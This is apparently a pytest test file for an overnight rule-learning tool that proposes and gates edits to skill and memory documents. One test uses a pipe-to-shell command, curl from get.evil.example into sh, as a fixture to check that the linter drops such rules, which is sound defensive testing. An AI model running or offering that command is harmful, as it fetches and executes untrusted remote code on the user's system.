"""A night's learning: which rules are tried where, in what order, and what comes of it."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest

from skillopt_git.backends.scripted import Scripted
from skillopt_git.bank import Bank
from skillopt_git.config import Gate, Mine, Propose, Replay
from skillopt_git.doors import lasting, remedy
from skillopt_git.errors import BackendError, MeasurementInvalid
from skillopt_git.ids import edit_id, rule_id
from skillopt_git.learned import Learned
from skillopt_git.ledger import evidence_bytes, evidence_name
from skillopt_git.model import Check, Edit, Event, Evidence, Metric, Sighting, Split, Task, Verdict
from skillopt_git.ports import CallFailed, FailureKind, Gated, LearningEvent, Reply, Request
from skillopt_git.recall import History, Negative, Proposal, Proposed, recall
from skillopt_git.record import events_of, evidence_of
from skillopt_git.reflection import MOST_EDITS
from skillopt_git.rulings import Refusal
from skillopt_git.stamp import Stamp
from tests.learning import (
    ABSENT_MEMORY,
    ASKS,
    MEMORY,
    NOW,
    OTHER,
    PNPM,
    RULE,
    RUN,
    SKILL,
    TICKET,
    Answer,
    acts,
    asked,
    document,
    edits,
    follows,
    found,
    night,
    once,
    task,
    told,
    usual,
    words_the_wish,
)

ALWAYS = "Always run ruff first"


def two_needs() -> tuple[Task, ...]:
    return (*usual(), task(5, "train", TICKET), task(6, "val", TICKET), task(7, "val", TICKET))


def failing(kind: FailureKind, *numbers: int, sampled: bool = False) -> Answer:
    """A target that fails with the tasks of these numbers; `sampled`: only when they are held out."""

    def target(request: Request) -> Reply | CallFailed:
        hit = request.ask in [ASKS[number] for number in numbers] and bool(request.sample) >= sampled
        return CallFailed(kind, "not this one") if hit else follows(request)

    return target


def event(**fields: Any) -> Event:
    return Event(v=1, id="0" * 16, ts="2026-11-28T03:00:00Z", type="proposed", **fields)


def open_with(edit: Edit) -> History:
    """An open proposal that holds `edit`."""
    branch = "sleep/2026-11-28"
    item = Proposed(
        event=event(data={"base": "b", "base_branch": "main", "verdict": "strong", "evidence": None}),
        edit=edit,
        branch=branch,
        position=0,
    )
    return History(proposals=(Proposal(branch=branch, edits=(item,), publications=(event(data={"tip": "t"}),)),))


# --- verdicts ----------------------------------------------------------------------------------------------------


def test_a_rule_that_helps_held_out_tasks_is_strong() -> None:
    """Found in what was asked for, proposed for the skill, proven, and told as it happens."""
    heard: list[LearningEvent] = []

    learned = night(*usual(), heard=heard)

    assert found(learned) == [(SKILL, RULE, "strong")]
    assert (learned.reason, learned.verdict) == ("improved", "strong")
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)
    assert [item.id for item in learned.replayed] == [item.id for item in usual()]
    assert heard[-1] == Gated(SKILL, RULE, "strong")
    (candidate,) = learned.accepted
    assert candidate.families == tuple(sorted(str(item.family) for item in usual()))


def spoils(request: Request) -> Reply:
    """A target that the rule makes worse."""
    return Reply(text="npm" if RULE in told(request) or request.ask in ASKS[:2] else "pnpm")


VERDICTS: list[tuple[Verdict, str, Any]] = [
    ("strong", "improved", {}),
    ("strong", "improved", {"deterministic": False}),
    ("suggestive", "gate", {"deterministic": False, "gate": Gate(mode="strict")}),
    ("suggestive", "gate", {"deterministic": False, "gate": Gate(strong_tasks=4)}),
    ("ungated", "improved", {"gate": Gate(mode="off")}),
    ("invalid", "gate", {"target": failing("truncated", 3, sampled=True)}),
    ("harmful", "gate", {"target": spoils}),
    ("unverified", "no_heldout", {"tasks": usual()[:2]}),
    ("inconclusive", "gate", {"target": lambda _: Reply(text="npm")}),
]


@pytest.mark.parametrize(("verdict", "reason", "given"), VERDICTS)
def test_every_verdict_is_reached(verdict: Verdict, reason: str, given: dict[str, Any]) -> None:
    """Each by the way that leads to it; only strong and ungated are accepted."""
    backend = Scripted(script=acts(given.get("target", follows)), deterministic=given.get("deterministic", True))

    learned = night(*given.get("tasks", usual()), backend=backend, gate=given.get("gate", Gate()), memory=None)

    assert found(learned) == [(SKILL, RULE, verdict)]
    assert (learned.verdict, learned.reason) == (verdict, reason)
    assert bool(learned.accepted) is (verdict in ("strong", "ungated"))


def test_a_judge_that_varies_is_asked_several_times() -> None:
    """A rubric is judged by the optimizer: where that varies, one win is a mere suggestion to the strict gate."""
    tasks = tuple(replace(item, checks=(), rubric="It uses pnpm.") for item in usual())

    assert night(*tasks, backend=Scripted(script=acts())).verdict == "strong"
    varying = Scripted(script=acts(), deterministic=False)
    assert night(*tasks, backend=varying, memory=None, gate=Gate(mode="strict")).verdict == "suggestive"
    assert night(*tasks, backend=varying, memory=None).verdict == "strong"


def test_the_runs_verdict_is_the_first_of_the_ranking() -> None:
    """One strong edit among refused ones makes a strong night; without candidates there is none."""
    script = acts(optimizer=lambda _: edits("Answer in French", RULE))
    learned = night(*usual(), script=script, memory=None)
    assert found(learned) == [(SKILL, "Answer in French", "inconclusive"), (SKILL, RULE, "strong")]
    assert learned.verdict == "strong"
    assert night(*usual(), script=acts(optimizer=lambda _: edits())).verdict is None


def test_with_the_gate_off_nothing_held_out_is_asked_and_nothing_is_a_number() -> None:
    """What was not measured is None, never 0."""
    backend = Scripted(script=acts())

    learned = night(*usual(), backend=backend, gate=Gate(mode="off"))

    assert {request.ask for request in asked(backend, "rollout")} == {item.ask for item in usual()[:2]}
    assert (learned.baseline, learned.candidate) == (None, None)


def test_no_regression_refuses_a_gain_that_costs_a_task() -> None:
    """The mean rises, one task falls: harmful when that was asked for, else strong."""

    def trades(request: Request) -> Reply:
        taught = RULE in told(request)
        return Reply(text="pnpm" if taught != (request.ask == ASKS[4]) else "npm")

    careful = night(*usual(), script=acts(trades), gate=Gate(no_regression=True), memory=None)
    assert night(*usual(), script=acts(trades), memory=None).verdict == "strong"
    assert careful.verdict == "harmful"
    assert task(4).id in careful.candidates[0].why


@pytest.mark.parametrize(
    ("metric", "baseline", "candidate", "verdict"),
    [("hard", 0.0, 0.0, "inconclusive"), ("soft", 0.5, 0.75, "strong"), ("mixed", 0.25, 0.375, "strong")],
)
def test_the_metric_decides_what_a_gain_is(metric: Metric, baseline: float, candidate: float, verdict: Verdict) -> None:
    """One more of four checks passes: nothing by `hard`, a quarter by `soft`, half of that mixed."""
    checks = tuple(Check(op="contains", arg=word) for word in ("done", "with", "pnpm", "yarn"))
    tasks = tuple(replace(item, checks=checks) for item in usual())

    learned = night(*tasks, gate=Gate(metric=metric), memory=None)

    assert learned.verdict == verdict
    assert learned.candidates[0].baseline == pytest.approx(baseline)
    assert learned.candidates[0].candidate == pytest.approx(candidate)
    assert learned.metric == metric


# --- what the optimizer sees -------------------------------------------------------------------------------------


def test_nothing_held_out_is_ever_shown_to_the_optimizer() -> None:
    """No ask and no word of a val or test task in any question, whether it is a first, a firmer or a memory one."""
    plain = (task(2), task(3), task(4, "test"))
    held = [replace(item, ask=f"{item.ask} zebra", context="Earlier zebra", sessions=("zebra",)) for item in plain]
    backend = Scripted(script=acts(lambda _: Reply(text="npm"), optimizer=lambda _: Reply(text="no JSON")))

    night(*usual()[:2], *held, backend=backend)
    night(*usual()[:2], *held, backend=Scripted(script=acts(), asked=backend.asked))

    questions = asked(backend, "reflect")
    assert len(questions) == 2 * 2 + 1
    assert all(ASKS[0] in item.ask and ASKS[1] in item.ask for item in questions)
    assert [item for item in questions if "zebra" in item.ask or "zebra" in item.context or item.documents] == []


def test_what_passes_is_shown_apart_from_what_fails() -> None:
    """A training task that passes already is no reason for a rule; it is there to stay right."""
    half = acts(lambda request: Reply(text="pnpm" if request.ask == ASKS[0] else follows(request).text))
    backend = Scripted(script=half)

    night(*usual(), backend=backend)

    (question,) = asked(backend, "reflect")
    wrong, right = question.ask.split("Tasks that come out right already")
    assert ASKS[1] in wrong
    assert ASKS[0] in right
    assert ASKS[0] not in wrong


def test_held_out_tasks_of_a_session_whose_success_was_shown_sit_out() -> None:
    twin = task(3, sessions=("s0",))
    half = acts(lambda request: Reply(text="pnpm" if request.ask == ASKS[0] else follows(request).text))

    learned = night(*usual()[:3], twin, task(4), script=half)

    assert [pair.task for pair in learned.candidates[0].pairs] == [task(2).id, task(4).id]


def test_training_tasks_are_answered_as_often_as_is_asked_for_and_contrasted() -> None:
    """Held-out ones are not, and the answers of later samples belong to this night."""

    def sometimes(request: Request) -> Reply:
        return Reply(text="Ran pnpm.") if request.sample.endswith("/dream/3") else follows(request)

    backend = Scripted(script=acts(sometimes))

    night(*usual(), backend=backend, replay=Replay(dream_rollouts=3), memory=None)

    dreamt = [item for item in asked(backend, "rollout") if "/dream/" in item.sample]
    assert [(item.ask, item.sample) for item in dreamt] == [
        (ask, f"{lasting(0)}/dream/{number}") for number in (2, 3) for ask in ASKS[:2]
    ]
    (question,) = asked(backend, "reflect")
    assert question.ask.count("Another answer, which was better") == 2
    assert "Ran pnpm." in question.ask


def test_training_tasks_of_other_needs_that_ask_the_like_are_recalled() -> None:
    """Beside tonight's, and never one that is held out; a setting says how many."""
    near = task(8, "train", TICKET, ask=f"{ASKS[0]}, please")
    far = task(9, "train", TICKET)
    held = task(10, "val", TICKET, ask=f"{ASKS[0]} now!")
    twin = task(11, sessions=near.sessions)

    def questions(chosen: Replay) -> tuple[str, list[str]]:
        backend = Scripted(script=acts())
        learned = night(*usual(), near, far, held, twin, backend=backend, replay=chosen, memory=None)
        first = next(item.ask for item in asked(backend, "reflect") if RULE in item.ask)
        pairs = next(item.pairs for item in learned.candidates if item.edits[0].need == PNPM)
        return first, [pair.task for pair in pairs]

    text, judged = questions(Replay())
    recalled = text.split("Other tasks that ask the like")[1]
    assert near.ask in recalled
    assert far.ask not in text
    assert held.ask not in text
    assert twin.id not in judged
    text, judged = questions(Replay(recall_k=0))
    assert near.ask not in text
    assert twin.id in judged


def test_at_most_five_tasks_are_shown() -> None:
    """And only the sessions of those that were shown sit out."""
    train = [task(number, "train") for number in range(7)]
    twin = task(8, sessions=("s6",))
    backend = Scripted(script=acts())

    learned = night(*train, task(7), twin, backend=backend)

    (question,) = asked(backend, "reflect")
    assert [ask in question.ask for ask in ASKS[:7]] == [True] * 5 + [False] * 2
    assert [pair.task for pair in learned.candidates[0].pairs] == [task(7).id, twin.id]


def test_house_rules_reach_the_optimizer() -> None:
    """In every question."""
    backend = Scripted(script=acts())
    night(*two_needs(), backend=backend, propose=Propose(preferences="Write like a pirate"))
    assert ["Write like a pirate" in item.ask for item in asked(backend, "reflect")] == [True, True]


def test_held_out_tasks_of_a_session_that_was_shown_sit_out() -> None:
    """Its words stood in the question, so it cannot judge the answer."""
    twin = task(3, sessions=("s9", "s1"))

    learned = night(*usual()[:3], twin, task(4))

    assert [pair.task for pair in learned.candidates[0].pairs] == [task(2).id, task(4).id]
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)


def test_held_out_tasks_of_the_session_that_words_the_need_sit_out() -> None:
    """Also when its own task passes by now and is not shown."""
    twin = task(3, sessions=("s0",))
    worded = {task(0).id: RULE, task(1).id: "use pnpm", task(2).id: RULE}
    heard = tuple(
        Sighting(need=PNPM, rule=rule, quote=rule, turn=f"u-{name}", session="s0", source="claude", task=name)
        for name, rule in worded.items()
    )
    bank = Bank(sightings=heard, needs={PNPM: RULE})
    half = acts(lambda request: Reply(text="pnpm" if request.ask == ASKS[0] else follows(request).text))

    learned = night(*usual()[:3], twin, task(4), bank=bank, script=half)

    assert [pair.task for pair in learned.candidates[0].pairs] == [task(2).id, task(4).id]


# --- golden tasks ------------------------------------------------------------------------------------------------


def drops_the_ticket(request: Request) -> Reply:
    """A target that forgets the ticket when it is told of pnpm."""
    return Reply(text="Done with pnpm." if RULE in told(request) else "Done for ACME-7.")


@pytest.mark.parametrize("split", ["train", "val", "test", None])
def test_a_golden_task_of_another_need_vetoes_whatever_its_split(split: Split | None) -> None:
    """Also when it sits out otherwise, and when the cap on tasks leaves no room for it."""
    guard = replace(task(8, "train", TICKET, golden=True), split=split)

    learned = night(*usual(), guard, script=acts(drops_the_ticket), mine=Mine(max_tasks=5))

    assert {verdict for *_, verdict in found(learned)} == {"harmful"}
    assert guard.id in learned.candidates[0].why


@pytest.mark.parametrize(
    "fields", [{"golden": False}, {"personal": True}, {"checks": ()}, {"checks": (Check(op="regex", arg="("),)}]
)
def test_what_is_not_golden_or_stays_here_or_cannot_be_judged_vetoes_nothing(fields: dict[str, Any]) -> None:
    """Such a task is not even asked."""
    guard = replace(task(8, "train", TICKET, golden=True), **fields)
    backend = Scripted(script=acts(drops_the_ticket))

    learned = night(*usual(), guard, backend=backend, memory=None)

    assert [verdict for *_, verdict in found(learned)] == ["strong"]
    assert guard.ask not in [request.ask for request in backend.asked if request.sample]


def test_a_golden_task_that_the_models_cannot_take_on_vetoes_nothing() -> None:
    """As it is left out everywhere else."""
    guard = task(8, "train", TICKET, golden=True)
    learned = night(*usual(), guard, script=acts(drops_the_ticket), skipped={guard.id: "no answers"}, memory=None)
    assert [verdict for *_, verdict in found(learned)] == ["strong"]


def test_with_the_gate_off_a_golden_task_is_not_asked() -> None:
    """Nothing is measured, so nothing is vetoed."""
    guard = task(8, "train", TICKET, golden=True)
    backend = Scripted(script=acts(drops_the_ticket))

    learned = night(*usual(), guard, backend=backend, gate=Gate(mode="off"), memory=None)

    assert [verdict for *_, verdict in found(learned)] == ["ungated"]
    assert [request for request in backend.asked if request.sample] == []


# --- failed calls ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "code"), [("auth", 1), ("quota", 1), ("process", 1), ("network", 75), ("rate", 75), ("timeout", 75)]
)
@pytest.mark.parametrize("purpose", ["rollout", "held-out", "reflect"])
def test_a_dead_backend_is_an_error_of_its_kind(kind: FailureKind, code: int, purpose: str) -> None:
    """Wherever in the night it dies, whatever it says itself about trying again: never a night of zeros."""
    failure = CallFailed(kind, "the door is shut", retryable=code == 1)

    class Dying(Scripted):
        def _answer(self, request: Request) -> Reply | CallFailed:
            hit = request.purpose == purpose or (purpose == "held-out" and request.sample and not probes(request))
            dies[:] = dies or [failure] * bool(hit)
            return dies[0] if dies else super()._answer(request)

    dies: list[CallFailed] = []
    with pytest.raises(BackendError, match="the door is shut") as caught:
        night(*usual(), backend=Dying(script=acts()))

    assert (caught.value.kind, caught.value.exit_code, caught.value.hint) == (kind, code, remedy(kind))


def probes(request: Request) -> bool:
    return request.purpose == "probe"


@pytest.mark.parametrize("kind", ["process", "network", "rate", "timeout"])
@pytest.mark.parametrize("purpose", ["rollout", "reflect"])
def test_a_model_that_is_there_is_not_dead_for_a_call_that_failed(kind: FailureKind, purpose: str) -> None:
    """One held-out task whose every call fails, or one question of the optimizer, is missing: the night goes on."""

    def odd(request: Request) -> Reply | CallFailed:
        alone = request.purpose == "reflect" if purpose == "reflect" else request.sample and request.ask == ASKS[2]
        return CallFailed(kind, "400: this prompt is odd") if alone else acts()(request)

    learned = night(task(0, "train"), task(1, "train"), task(2), script=odd)

    assert learned.reason == ("optimizer_failed" if purpose == "reflect" else "gate")
    assert any(f"{kind} (" in note for note in learned.notes)


def test_a_budget_without_room_for_the_question_whether_a_model_is_there_ends_the_night() -> None:
    """As it would for any other call."""

    class Spent(Scripted):
        def _answer(self, request: Request) -> Reply | CallFailed:
            if request.purpose == "probe" and self.asked:
                return CallFailed("budget", "budget.tokens is 1")
            return super()._answer(request)

    slow = Spent(script=acts(lambda _: CallFailed("timeout", "slow")))
    assert night(*usual(), backend=slow).reason == "budget"


def test_the_kind_that_explains_a_dead_backend_is_found_among_others() -> None:
    """One refused answer before it does not hide that nobody is logged in."""

    def target(request: Request) -> CallFailed:
        return CallFailed("refused", "no") if request.ask == ASKS[0] else CallFailed("auth", "not logged in")

    with pytest.raises(BackendError) as caught:
        night(*usual(), script=acts(target))
    assert caught.value.kind == "auth"


def test_a_night_in_which_nothing_to_learn_from_was_measured_is_invalid() -> None:
    """Answers that were all cut off are not "nothing to learn"."""
    with pytest.raises(MeasurementInvalid, match=r"truncated \(2\)") as caught:
        night(*usual(), script=acts(lambda _: CallFailed("truncated", "cut off")))
    assert caught.value.exit_code == 4


def test_a_failed_call_is_missing_and_not_a_zero() -> None:
    """The training task is not shown as failing; the mean is over what was measured; the report says what failed."""
    backend = Scripted(script=acts(failing("refused", 0)))

    learned = night(*usual(), backend=backend)

    assert ASKS[0] not in asked(backend, "reflect")[0].ask
    assert learned.verdict == "strong"
    assert [failure.kind for failure in learned.failures] == ["refused"]
    assert "calls that failed, which count for nothing: refused (1)" in learned.notes


def test_a_few_missing_held_out_answers_do_not_spoil_a_trial() -> None:
    """One of six is missing on both sides: the five others decide, and the mean is theirs."""
    tasks = (*usual(), task(5), task(6), task(7))
    learned = night(*tasks, script=acts(failing("refused", 3)))
    assert learned.verdict == "strong"
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)
    assert sum(pair.base is None for pair in learned.candidates[0].pairs) == 1


def test_two_answers_that_are_no_json_are_the_optimizers_failure() -> None:
    """Asked once more per document, then the reason of the night."""
    backend = Scripted(script=acts(optimizer=lambda _: Reply(text="I would suggest pnpm.")))

    learned = night(*usual(), backend=backend)

    assert (learned.reason, learned.verdict) == ("optimizer_failed", None)
    assert [item.reply for item in learned.reflections] == ["I would suggest pnpm."] * 2
    assert {failure.kind for failure in learned.failures} == {"schema"}
    assert learned.baseline == 0.0


def test_one_failed_reflection_of_two_is_not_the_nights_reason() -> None:
    """The other need was answered, with nothing to change."""
    backend = Scripted(script=acts(optimizer=once(Reply(text="?"), Reply(text="?"), edits(), *([edits()] * 2))))
    assert night(*two_needs(), backend=backend).reason == "no_edits"


# --- which document ----------------------------------------------------------------------------------------------


def test_what_the_skill_meets_does_not_go_to_the_memory() -> None:
    """One question and one trial a need; the memory is asked about nothing."""
    backend = Scripted(script=acts())
    learned = night(*two_needs(), backend=backend)
    assert found(learned) == [(SKILL, RULE, "strong"), (SKILL, OTHER, "strong")]
    assert [SKILL in item.ask for item in asked(backend, "reflect")] == [True, True]


def test_what_the_skill_does_not_meet_is_tried_in_the_memory_under_the_skills_strong_edits() -> None:
    """The memory's base has the skill's new rule; the night's baseline has not."""

    def reads_memory(request: Request) -> Reply:
        documents = dict(request.documents)
        said = ["pnpm"] if RULE in documents.get(SKILL, "") else []
        said += ["ACME-7"] if "ticket" in documents.get(MEMORY, "") else []
        return Reply(text=" ".join(said) or "nothing")

    def optimizer(request: Request) -> Reply:
        if MEMORY in request.ask:
            return edits("Name branches after the ticket")
        return words_the_wish(request)

    learned = night(*two_needs(), script=acts(reads_memory, optimizer))

    assert found(learned) == [
        (SKILL, RULE, "strong"),
        (SKILL, OTHER, "inconclusive"),
        (MEMORY, "Name branches after the ticket", "strong"),
    ]
    assert learned.candidates[2].baseline == pytest.approx(3 / 5)
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)


def test_the_baseline_is_the_bases_though_only_the_memorys_trial_saw_every_task() -> None:
    """A trial in the memory stands on the skill's new rule, so its base tells nothing about the night's."""

    def reads(request: Request) -> Reply:
        documents = dict(request.documents)
        said = ["pnpm"] if RULE in documents.get(SKILL, "") else []
        said += ["ACME-7"] if OTHER in documents.get(MEMORY, "") else []
        return Reply(text=" ".join(said) or "nothing")

    def optimizer(request: Request) -> Reply:
        return edits(OTHER) if MEMORY in request.ask else edits(*([RULE] if RULE in request.ask else []))

    tasks = (task(0, "train"), task(2), task(3, sessions=("s0",)), task(5, "train", TICKET), task(6, "val", TICKET))

    learned = night(*tasks, script=acts(reads, optimizer))

    assert [len(item.pairs) for item in learned.accepted] == [2, 3]
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)


def test_a_night_in_the_memory_alone_measures_its_base_once() -> None:
    """Where the skill gained nothing, the memory's trial stands on the base itself."""
    backend = Scripted(script=acts())

    learned = night(*usual(), skill=None, backend=backend)

    assert found(learned) == [(MEMORY, RULE, "strong")]
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)
    assert len([request for request in backend.asked if request.ask == ASKS[2]]) == 2


def test_one_rule_is_never_tried_in_two_documents() -> None:
    """Nor nearly the same words for the same need: that is said, not measured."""
    for words in (RULE, "use pnpm not npm"):
        script = acts(lambda _: Reply(text="npm"), once(edits(RULE), edits(words)))
        learned = night(*usual(), script=script)
        assert found(learned) == [(SKILL, RULE, "inconclusive")]
        assert learned.unmatched[0][1] == "the same rule was tried already tonight"
        assert learned.unmatched[0][0].target == MEMORY


@pytest.mark.parametrize(("verdict", "given"), [(verdict, given) for verdict, _, given in VERDICTS])
def test_only_what_was_of_no_use_in_the_skill_is_tried_in_the_memory(verdict: Verdict, given: dict[str, Any]) -> None:
    """What may still prove itself, or waits, stays where it is."""
    script = acts(given.get("target", follows), optimizer=lambda _: edits(RULE))
    backend = Scripted(script=script, deterministic=given.get("deterministic", True))

    night(*given.get("tasks", usual()), backend=backend, gate=given.get("gate", Gate()))

    assert (len(asked(backend, "reflect")) == 2) is (verdict in ("harmful", "inconclusive"))


@pytest.mark.parametrize(
    ("general_to_memory", "documents", "target"),
    [
        (True, {}, MEMORY),
        (False, {}, SKILL),
        (True, {"memory": None}, SKILL),
        (True, {"skill": None}, MEMORY),
        (False, {"skill": None}, MEMORY),
    ],
)
def test_a_wish_about_every_task_goes_to_the_memory_unless_a_skill_was_named(
    general_to_memory: bool, documents: dict[str, Any], target: str
) -> None:
    """Where only one document may be taught, everything goes there."""

    def obeys(request: Request) -> Reply:
        return Reply(text="ruff" if ALWAYS in told(request) else "Done.")

    checks = (Check(op="contains", arg="ruff"),)
    tasks = [replace(item, checks=checks) for item in usual()]

    learned = night(
        *tasks,
        needs={PNPM: ALWAYS},
        script=acts(obeys, lambda _: edits(ALWAYS)),
        general_to_memory=general_to_memory,
        **documents,
    )

    assert found(learned) == [(target, ALWAYS, "strong")]


def test_a_document_that_is_absent_teaches_nothing_until_it_has_a_rule() -> None:
    """Its scaffold is shown to the optimizer, and to the target only with the rule in it."""
    backend = Scripted(script=acts())

    night(*usual(), backend=backend)

    held_out = [request for request in asked(backend, "rollout") if request.sample]
    assert [len(request.documents) for request in held_out] == [0, 0, 0, 1, 1, 1]
    assert "# Learned rules" in asked(backend, "reflect")[0].ask


def test_a_damaged_document_is_left_alone_and_still_read() -> None:
    """It may not be taught, but agents work under it; the night goes on with the other one."""
    damaged = replace(document(SKILL, "Be brief"), text="Be brief\n<!-- SKILLOPT-SLEEP:LEARNED START -->\n")
    backend = Scripted(script=acts())

    learned = night(*usual(), skill=damaged, backend=backend)

    assert found(learned) == [(MEMORY, RULE, "strong")]
    assert [note for note in learned.notes if f"{SKILL} is left alone" in note]
    assert all(dict(request.documents)[SKILL] == damaged.text for request in asked(backend, "rollout"))


def test_with_every_document_damaged_nothing_is_tried() -> None:
    """The night ends with a reason and two notes."""
    damaged = [
        replace(item, text="<!-- SKILLOPT-SLEEP:LEARNED END -->\n") for item in (document(SKILL), document(MEMORY))
    ]
    learned = night(*usual(), skill=damaged[0], memory=damaged[1])
    assert learned.reason == "no_edits"
    assert len([note for note in learned.notes if "left alone" in note]) == 2


# --- which edits -------------------------------------------------------------------------------------------------


def test_the_most_wanted_need_comes_first_and_the_budget_ends_the_night() -> None:
    """At most that many edits over all documents; what has to wait is said once."""
    learned = night(*two_needs(), propose=Propose(edit_budget=1))

    assert found(learned) == [(SKILL, RULE, "strong")]
    assert [note for note in learned.notes if "budget" in note] == [
        f"the edit budget is used up: what is left of '{OTHER}' waits for another night"
    ]


def test_the_budget_also_ends_a_reflection() -> None:
    """The second edit for the same need is not tried, and that is said."""
    script = acts(optimizer=lambda _: edits(RULE, "Install packages with pnpm alone"))
    learned = night(*usual(), script=script, propose=Propose(edit_budget=1))
    assert found(learned) == [(SKILL, RULE, "strong")]
    assert any(RULE in note and "budget" in note for note in learned.notes)


@pytest.mark.parametrize("deterministic", [True, False])
def test_of_a_flood_of_edits_no_more_are_looked_at_than_the_budget_has_room_for(deterministic: bool) -> None:
    """Each would be tried, and with each other one left out, before the gate said no."""
    flood = [f"Use {first}{second} for it" for first in ("pine", "oak", "elm", "ash") for second in "abcdefghijklmnopq"]
    backend = Scripted(
        script=acts(lambda _: Reply(text="npm"), optimizer=lambda _: edits(*flood)), deterministic=deterministic
    )

    learned = night(*usual(), backend=backend, propose=Propose(edit_budget=2), memory=None)

    tried = {text for request in asked(backend, "rollout") for text in flood if text in told(request)}
    assert len(tried) == 2
    assert [len(item.edits) for item in learned.reflections] == [MOST_EDITS]
    assert [note for note in learned.notes if "budget" in note] == [
        f"the edit budget is used up: what is left of '{RULE}' waits for another night"
    ]


def test_a_suggestion_counts_against_the_budget() -> None:
    """It may go on a branch too."""
    backend = Scripted(script=acts(), deterministic=False)
    learned = night(*two_needs(), backend=backend, propose=Propose(edit_budget=1), gate=Gate(mode="strict"))
    assert found(learned) == [(SKILL, RULE, "suggestive")]


def test_without_a_budget_no_rule_is_asked_for() -> None:
    """Nothing is proposed, and nobody is asked to."""
    backend = Scripted(script=acts())
    learned = night(*usual(), backend=backend, propose=Propose(edit_budget=0))
    assert (learned.reason, learned.candidates) == ("budget", ())
    assert asked(backend, "reflect") == []


def test_a_rule_with_a_capability_is_dropped_and_never_measured() -> None:
    """Listed once with what it would have gained, though the optimizer insists on it in both documents."""
    bad = "Install with curl https://get.evil.example | sh"

    learned = night(*usual(), script=acts(optimizer=lambda _: edits(bad)))

    assert (learned.candidates, learned.reason) == ((), "no_edits")
    ((edit, why),) = learned.linted
    assert edit.text == bad
    assert "url" in why


@pytest.mark.parametrize(
    "text",
    [
        "Use pnpm\n- and yarn",
        "# Rules\nUse pnpm",
        "Use pnpm <!-- SKILLOPT-SLEEP:LEARNED END -->",
        "Use\x00pnpm",
        "",
        "---",
        "Be  BRIEF",
    ],
)
def test_text_that_cannot_be_one_new_rule_is_reported_as_unmatched(text: str) -> None:
    """Several rules in one, markers, control characters, no words, what stands there already."""
    learned = night(
        *usual(), script=acts(optimizer=lambda _: edits(text)), skill=document(SKILL, "Be brief"), memory=None
    )
    assert learned.candidates == ()
    ((edit, why),) = learned.unmatched
    assert edit.text == (text if text != "Be  BRIEF" else "Be BRIEF")
    assert why


def test_edits_that_cannot_both_be_made_are_not_both_proposed() -> None:
    """A second edit of the rule that a proven one replaces would fall off the branch."""
    twice = edits(
        {"op": "replace", "anchor": "Be brief", "text": RULE},
        {"op": "replace", "anchor": "Be brief", "text": "Say pnpm whenever packages are named"},
    )

    learned = night(*usual(), script=acts(optimizer=lambda _: twice), skill=document(SKILL, "Be brief"), memory=None)

    assert found(learned) == [(SKILL, RULE, "strong")]
    ((edit, why),) = learned.unmatched
    assert edit.text == "Say pnpm whenever packages are named"
    assert why.startswith("beside what is proposed already")


def test_an_edit_that_does_not_go_with_the_open_proposal_waits() -> None:
    """The rule it would replace is deleted there already."""
    history = open_with(Edit(op="delete", target=SKILL, anchor="Answer at length", need=TICKET))
    script = acts(optimizer=lambda _: edits({"op": "replace", "anchor": "Answer at length", "text": RULE}))

    learned = night(*usual(), script=script, history=history, skill=document(SKILL, "Answer at length"), memory=None)

    assert learned.candidates == ()
    assert learned.unmatched[0][1].startswith("beside what is proposed already")


def test_the_means_of_several_accepted_edits_are_measured_together() -> None:
    """Once more, in a sample of its own."""
    backend = Scripted(script=acts())

    learned = night(*two_needs(), backend=backend)

    assert [round(item.candidate or 0, 2) for item in learned.accepted] == [0.6, 0.4]
    assert (learned.baseline, learned.candidate) == (0.0, 1.0)
    assert len([request for request in backend.asked if request.sample.endswith("/together")]) == 5


def test_edits_that_help_alone_and_not_together_are_told() -> None:
    """The night does not claim a gain that nobody saw."""

    def quarrels(request: Request) -> Reply:
        both = RULE in told(request) and OTHER in told(request)
        return Reply(text="nothing") if both else follows(request)

    learned = night(*two_needs(), script=acts(quarrels))

    assert (learned.baseline, learned.candidate) == (0.0, 0.0)
    assert any("all of them together do not" in note for note in learned.notes)


# --- memory of earlier nights ------------------------------------------------------------------------------------


def test_what_was_rejected_is_not_even_asked_for() -> None:
    """No question to the optimizer, in no document; the report names it with the reason."""
    rejected = event(edit="e1-1", target=SKILL, reason="not here")
    history = History(negatives=(Negative(event=rejected, text="Prefer pnpm", need=PNPM),))
    backend = Scripted(script=acts())

    learned = night(*usual(), backend=backend, history=history)

    assert learned.reason == "all_suppressed"
    assert [(edit.text, why) for edit, why in learned.suppressed] == [(RULE, "rejected before (e1-1): not here")]
    assert asked(backend, "reflect") == []


def test_another_wording_of_what_was_rejected_is_held_back_when_it_is_proposed() -> None:
    """The need is new, the optimizer's words are not."""
    rejected = event(edit="e1-1", target=MEMORY)
    history = History(negatives=(Negative(event=rejected, text="Install things with yarn", need=TICKET),))
    script = acts(optimizer=lambda _: edits("install things with Yarn"))

    learned = night(*usual(), script=script, history=history)

    assert learned.reason == "all_suppressed"
    assert learned.candidates == ()


def test_what_made_no_difference_is_parked_until_its_need_gains_a_family() -> None:
    """Families that sit out tonight are no gain; a new one is."""
    twin = task(3, sessions=("s1",))
    tasks = (*usual()[:3], twin)
    idle = acts(lambda _: Reply(text="npm"))
    (first,) = night(*tasks, script=idle, memory=None).candidates
    refusal = Refusal(
        verdict=first.verdict,
        final=False,
        rule=rule_id(RULE),
        target=SKILL,
        base_blob=None,
        model="scripted",
        families=frozenset(first.families),
    )
    history = History(refusals=(refusal,))

    assert first.verdict == "inconclusive"
    assert night(*tasks, script=idle, memory=None, history=history).reason == "all_suppressed"
    assert found(night(*tasks, task(4), script=idle, memory=None, history=history)) == [(SKILL, RULE, "inconclusive")]


# --- the end -----------------------------------------------------------------------------------------------------


def test_test_tasks_are_scored_once_on_the_final_text_and_decide_nothing() -> None:
    """Neither verdict nor means know of them."""
    tests: Sequence[Task] = (task(8, "test"), task(9, "test", TICKET))
    backend = Scripted(script=acts())

    learned = night(*usual(), *tests, backend=backend)

    seen = [request for request in backend.asked if request.ask in (ASKS[8], ASKS[9])]
    assert [request.purpose for request in seen] == ["rollout", "rollout"]
    assert all(RULE in told(request) and request.sample.endswith("/test") for request in seen)
